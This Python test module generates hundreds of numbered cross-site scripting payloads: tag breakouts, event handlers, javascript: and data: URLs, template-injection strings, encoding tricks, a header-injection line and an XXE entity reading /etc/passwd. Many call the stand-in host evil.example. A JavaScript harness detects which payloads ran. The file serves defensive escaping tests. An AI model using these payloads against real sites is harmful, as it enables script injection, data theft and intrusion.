"""Markup that runs wherever it is not escaped, made by rule: ways out of a place × things that run."""

from collections.abc import Iterator

# What is called when something runs; the page counts the calls.
CALLS = ("ran({n})", "alert({n})", "top.ran({n})", "ran`{n}`")
# Ways out of an attribute, an element or a section, for what stands behind them.
WAYS_OUT = (
    "", '">', "'>", "\"'>", "`>", "/>", "</title>", "</style>", "</script>", "</textarea>", "</noscript>", "</template>",
    "</option></select>", "</text></svg>", "</a></p>", "--><!--x-->", "]]>", "?>", "\"}]</script>", "</time></dl>",
)  # fmt: skip
ELEMENTS = (
    "<script>{call}</script>",
    "<ScRiPt x>{call}</sCrIpT >",
    "<script src=//evil.example/{n}.js></script>",
    "<img src=x onerror={call}>",
    "<img/src/onerror={call}//",
    "<svg onload={call}>",
    "<svg/onload\n=\n{call}>",
    "<svg><script>{call}</script></svg>",
    '<iframe src="javascript:{call}"></iframe>',
    '<iframe srcdoc="<script>parent.{call}</script>"></iframe>',
    "<details open ontoggle={call}>x</details>",
    "<a href=javascript:{call}>x</a>",
)
# Elements that are tried by themselves.
ALONE = (
    "<body onload={call}>",
    "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}></audio>",
    "<input autofocus onfocus={call}>",
    "<textarea autofocus onfocus={call}></textarea>",
    "<select autofocus onfocus={call}></select>",
    "<x tabindex=1 autofocus onfocus={call}>x</x>",
    "<marquee onstart={call}>x</marquee>",
    '<object data="javascript:{call}"></object>',
    "<object data=//evil.example/{n}></object>",
    '<embed src="javascript:{call}">',
    "<form action=javascript:{call}><button>x</button></form>",
    "<form action=//evil.example/{n}><input name=p></form>",
    "<button formaction=javascript:{call}>x</button>",
    "<base href=//evil.example/{n}/>",
    '<meta http-equiv=refresh content="0;url=javascript:{call}">',
    '<meta http-equiv="refresh" content="0;url=//evil.example/{n}">',
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "<style>*{background:url(//evil.example/{n})}</style>",
    '<p style="background:url(//evil.example/{n})">x</p>',
    "<p style=animation-name:x onanimationstart={call}>x</p>",
    "<math><mi xlink:href=javascript:{call}>x</mi></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={call}&gt;">',
    '<noscript><p title="</noscript><img src=x onerror={call}>"></noscript>',
    "<svg><animate onbegin={call} attributeName=x dur=1s /></svg>",
    "<svg><a xlink:href=javascript:{call}><text y=9>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to={call} /></svg>",
    "<svg><foreignObject><img src=x onerror={call}></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload={call}></svg>#x"/></svg>',
    "<svg><style>&lt;img src=x onerror={call}&gt;</style></svg>",
    "<table background=//evil.example/{n}><tr><td>x</table>",
    "<dialog open onclose={call}>x</dialog>",
    "<frameset onload={call}><frame></frameset>",
    "<plaintext onclick={call}>",
    "<xmp></xmp><img src=x onerror={call}>",
    "<a href=&#106;avascript:{call}>x</a>",
    "<a href='java\tscript:{call}'>x</a>",
    "<a href=data:text/html,<script>{call}</script>>x</a>",
    "<!--><img src=x onerror={call}>-->",
    "<![CDATA[><img src=x onerror={call}>]]>",
    "<?xml-stylesheet href=//evil.example/{n}?><img src=x onerror={call}>",
)
# Attributes, behind each kind of quote.
QUOTES = ('"', "'", "' \"", "x ", '"\n', "`\"'")
ATTRIBUTES = (
    "onmouseover={call} x=",
    "autofocus tabindex=1 onfocus={call} x=",
    "onpointerenter={call} style=position:fixed;inset:0 x=",
    "style=background:url(//evil.example/{n}) x=",
    "srcdoc=<script>{call}</script> x=",
    "onload={call} onerror={call} x=",
)
# Addresses that are code.
SCHEMES = (
    "javascript:{call}", "JaVaScRiPt:{call}", " javascript:{call}", "\x01javascript:{call}", "java\tscript:{call}",
    "java\nscript:{call}", "javascript://evil.example/%0a{call}", "javascript:https://evil.example/;{call}",
    "data:text/html,<script>{call}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={n}",
    "data:image/svg+xml,<svg onload={call}>", "vbscript:msgbox({n})", "javascript&colon;{call}", "&#x6a;avascript:{call}",
)  # fmt: skip
# What only a second reading would make into markup: templates, entities, escapes, look-alikes.
SECOND = (
    "{{ {n} }}{% debug %}", "{{constructor.constructor('{call}')()}}", "${{call}}", "#{{call}}", "<%= {call} %>",
    "{% load static %}{{ request.user.password }}{n}", "%({n})s %s {0} {0.__class__}", "&lt;script&gt;{call}&lt;/script&gt;",
    "&amp;lt;img src=x onerror={call}&amp;gt;", "&#60;img src=x onerror={call}&#62;", "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "%3Cscript%3E{call}%3C/script%3E", "＜script＞{call}＜/script＞", "﹤img src=x onerror={call}﹥", "‹script›{call}‹/script›",
    "\u202e<script>{call}</script>\u202c", "<\u200bscript>{call}</script>", "<scr\u00adipt>{call}</script>", "\ufeff<script>{call}</script>",
    "\u2028{call}\u2029", "\";{call}//", "';{call}//", "\\\";{call}//", "`;{call}//", "*/{call}/*", "</scr\u0130pt><ſcript>{call}</ſcript>",
    "[x](javascript:{call})", "![x](x\"onerror=\"{call})", "x\r\nSet-Cookie: a={n}\r\n\r\n<script>{call}</script>", "expression({call})",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;{n}", "<?php {call} ?>", "<c onload={call}>{n}</c>", "<v {call}>x</v>",
)  # fmt: skip


def patterns() -> Iterator[str]:
    yield from (way_out + element for way_out in WAYS_OUT for element in ELEMENTS)
    yield from ALONE
    yield from (quote + attribute + quote for quote in QUOTES for attribute in ATTRIBUTES)
    yield from SCHEMES
    yield from SECOND


def numbered() -> Iterator[str]:
    """Each payload has its number in it, so that what ran can be named."""
    for n, pattern in enumerate(patterns(), 1000):
        yield pattern.replace("{call}", CALLS[n % len(CALLS)]).replace("{n}", str(n))


PAYLOADS = tuple(numbered())
# Of those that are addresses.
ADDRESSES = PAYLOADS[-len(SECOND) - len(SCHEMES) : -len(SECOND)]

# Where a payload may come to stand; what is between the words is what a page has there.
PLACES = (
    "<body><p>HERE</p>", '<p title="HERE">x</p>', "<p title='HERE'>x</p>", "<p title=HERE>x</p>", '<a href="HERE">x</a>',
    "<title>HERE</title>", "<style>HERE</style>", "<textarea>HERE</textarea>", "<!-- HERE -->", "<noscript>HERE</noscript>",
    '<script type="application/ld+json">["HERE"]</script>', "<svg><title>HERE</title></svg>", "<template>HERE</template>",
    "<select><option>HERE</option></select>",
)  # fmt: skip

# Runs before anything else of a page, in each of its frames.
WATCH = """
window.calls = [];
window.ran = (n) => top.calls.push(String(n));
window.violations = [];
addEventListener("securitypolicyviolation", (event) =>
  violations.push([event.effectiveDirective, event.blockedURI, event.sample].join(" ")));

const STRANGE = new Set(["base", "math", "marquee", "object", "embed", "applet", "frame", "frameset", "plaintext", "xmp",
  "mglyph", "animate", "set", "foreignObject", "x", "noembed", "c", "v"]);
const ADDRESSES = new Set(["href", "src", "action", "formaction", "data", "poster", "cite", "background", "xlink:href"]);
const DATA = ["application/ld+json", "application/json"];
const CODE = /ran[(`]|alert[(`]|evil\\.example/;

function odd(attribute) {
  if (/^on/i.test(attribute.name) || !/^[a-z][\\w:.-]*$/i.test(attribute.name)) return true;
  if (attribute.name === "srcdoc" || (attribute.name === "style" && CODE.test(attribute.value))) return true;
  if (!ADDRESSES.has(attribute.name)) return false;
  const address = attribute.value.replace(/[\\0-\\x20]/g, "");
  return /^(javascript|data|vbscript):/i.test(address) || /^(https?:)?\\/\\/evil\\.example/i.test(address);
}

function strange(element) {
  const name = element.localName;
  if (STRANGE.has(name) || (name === "meta" && element.httpEquiv)) return true;
  if (name === "style") return CODE.test(element.textContent);
  if (name !== "script") return false;
  if (DATA.includes(element.type)) return JSON.parse(element.textContent) === undefined;
  return element.textContent.trim() !== "" || !/^\\/(static|admin\\/jsi18n)\\//.test(element.getAttribute("src"));
}

// What should not be there, as a browser has read the document.
window.injected = (root) => {
  const found = [];
  for (const element of root.querySelectorAll("*")) {
    if (strange(element)) found.push(element.outerHTML.slice(0, 200));
    for (const attribute of element.attributes)
      if (odd(attribute)) found.push(`${element.localName} ${attribute.name}=${attribute.value.slice(0, 200)}`);
    if (element.localName === "template") found.push(...injected(element.content));
  }
  return found;
};

// The same of each entry of a feed, which a browser shows as text and a reader of feeds as a page.
window.injectedIntoFeed = () => {
  const parser = new DOMParser(), feed = parser.parseFromString(document.body.textContent, "application/xml");
  const pages = Array.from(feed.querySelectorAll("content"), (entry) => entry.textContent);
  return pages.map((page) => injected(parser.parseFromString(page, "text/html")));
};

// The words that can be read on the page or are read out in place of its pictures, without any space.
window.words = () => {
  const walker = document.createTreeWalker(document.body || document.documentElement, NodeFilter.SHOW_TEXT, (node) =>
    ["script", "style", "noscript"].includes(node.parentNode.localName) ? 2 : 1);
  let text = Array.from(document.images || [], (image) => image.alt).join(" ");
  while (walker.nextNode()) text += walker.currentNode.data;
  return text.replace(/\\s/g, "");
};
"""
